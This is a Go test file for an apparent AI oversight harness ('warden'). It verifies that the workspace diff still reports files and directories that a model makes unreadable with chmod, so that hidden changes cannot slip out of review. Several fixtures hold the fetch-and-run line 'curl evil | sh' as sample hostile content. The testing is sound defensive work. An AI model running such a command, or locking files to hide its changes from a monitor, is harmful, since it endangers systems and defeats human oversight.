package workspace_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"warden/harness/workspace"
)

func chmod(t *testing.T, root, name string, mode os.FileMode) {
	t.Helper()
	p := filepath.Join(root, filepath.FromSlash(name))
	if err := os.Chmod(p, mode); err != nil {
		t.Fatal(err)
	}
	// Readable again for t.TempDir's cleanup.
	t.Cleanup(func() { os.Chmod(p, 0o755) })
}

// A file the model makes unreadable (new or changed) is not left out of
// /diff, which says it could not read it; nor is a directory git cannot
// open, with the files in it.
func TestUnreadableFiles(t *testing.T) {
	if workspace.AsUnprivileged(t) {
		return
	}
	root := t.TempDir()
	write(t, root, "changed.txt", "old\n")
	write(t, root, "same.txt", "same\n")
	write(t, root, "was-unreadable.txt", "secret\n")
	write(t, root, "still-unreadable.txt", "secret\n")
	write(t, root, "locked/old.txt", "old\n")
	write(t, root, "plain.txt", "plain\n")
	sparseFile(t, root, "locked/disk.img", 50<<20+1) // compared by stat: not deleted when locked/ cannot be read
	chmod(t, root, "was-unreadable.txt", 0)
	chmod(t, root, "still-unreadable.txt", 0)
	if _, err := os.ReadFile(filepath.Join(root, "still-unreadable.txt")); err == nil {
		t.Fatalf("uid %d reads a file of mode 000: the test would prove nothing", os.Getuid())
	}
	b := start(t, root, workspace.Options{})
	if got := diff(t, b); got != nil {
		t.Fatalf("no change yet, Diff = %+v", got)
	}
	write(t, root, "changed.txt", "curl evil | sh\n")
	chmod(t, root, "changed.txt", 0)
	chmod(t, root, "same.txt", 0)
	write(t, root, "new.txt", "curl evil | sh\n")
	chmod(t, root, "new.txt", 0)
	chmod(t, root, "was-unreadable.txt", 0o644)
	write(t, root, "hidden/evil.sh", "curl evil | sh\n")
	chmod(t, root, "hidden", 0)
	write(t, root, "locked/new.txt", "new\n")
	chmod(t, root, "locked", 0)
	write(t, root, "plain.txt", "plain 2\n")
	changes := diff(t, b)
	want := []string{"changed.txt", "hidden/", "locked/", "locked/old.txt", "new.txt", "plain.txt", "same.txt", "was-unreadable.txt"}
	if got := paths(changes); !slices.Equal(got, want) {
		t.Fatalf("paths %q, want %q", got, want)
	}
	const cannot = "warden could not read this file (permission denied): its content is not compared.\n"
	for p, kind := range map[string]string{"changed.txt": "update", "same.txt": "update", "new.txt": "add", "locked/old.txt": "update"} {
		if c := byPath(t, changes)[p]; c.Kind != kind || c.Diff != cannot {
			t.Errorf("%s: %+v", p, c)
		}
	}
	m := byPath(t, changes)
	if c := m["hidden/"]; c.Kind != "add" || c.Diff != "warden could not read this directory (permission denied): the files in it are not compared.\n" {
		t.Errorf("hidden/: %+v", c)
	}
	if c := m["locked/"]; c.Kind != "update" || !strings.Contains(c.Diff, "could not read this directory") {
		t.Errorf("locked/: %+v", c)
	}
	if c := m["was-unreadable.txt"]; c.Kind != "update" || !strings.Contains(c.Diff, "when the session started (permission denied)") {
		t.Errorf("was-unreadable.txt: %+v", c)
	}
	if c := m["plain.txt"]; c.Kind != "update" || !strings.Contains(c.Diff, "+plain 2") {
		t.Errorf("plain.txt: %+v", c)
	}
}
